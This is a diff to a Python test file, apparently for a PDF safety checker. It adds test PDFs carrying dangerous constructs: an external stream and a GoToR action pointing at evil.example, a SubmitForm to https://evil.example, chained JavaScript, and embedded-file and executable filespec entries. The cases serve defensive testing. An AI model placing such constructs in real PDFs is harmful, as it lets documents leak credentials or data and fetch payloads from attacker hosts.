@@ -223,6 +223,15 @@ def spelt(name: str) -> bytes:
     return data.replace(b"/JavaScript", name.encode())
 
 
+def elsewhere() -> bytes:
+    """A PDF with a stream whose bytes are in another file, which a viewer fetches."""
+    with pikepdf.open(io.BytesIO(pdf())) as document:
+        document.Root.Held = document.make_indirect(pikepdf.Stream(document, b"", F=pikepdf.String("//evil.example/x")))
+        out = io.BytesIO()
+        document.save(out)
+    return out.getvalue()
+
+
 @pytest.mark.parametrize(
     "data",
     [
@@ -237,9 +246,18 @@ def spelt(name: str) -> bytes:
                 ("/Names", "<</JavaScript<<>>>>"),
                 ("/Names", "<</EmbeddedFiles<<>>>>"),
                 ("/AA", "<<>>"),
+                ("/Collection", "<<>>"),
+                ("/OpenAction", "<</S/GoToR/F(\\\\evil.example\\x)/D[0/Fit]>>"),
+                ("/OpenAction", "<</S/GoToE/F(x.pdf)>>"),
+                ("/OpenAction", "<</S/SubmitForm/F(https://evil.example)>>"),
+                ("/OpenAction", "<</S/URI/URI(x)/Next<</S/JavaScript/JS(x)>>>>"),
+                ("/Held", "<</Type/Annot/Subtype/FileAttachment>>"),
+                ("/Held", "<</Type/Annot/Subtype/Screen>>"),
+                ("/Held", "<</Type/Filespec/F(x.exe)/EF<<>>>>"),
                 ("/Held", "<</Type/Annot/Subtype/RichMedia>>"),
             )
         ),
+        elsewhere(),
         pdf(encryption=pikepdf.Encryption(owner="a", user="", R=6)),
         pdf(encryption=pikepdf.Encryption(owner="a", user="b", R=4, aes=True)),
         pdf().replace(b"%%EOF", b"9 0 obj<</S/#4cau#6ech>>endobj\n%%EOF"),
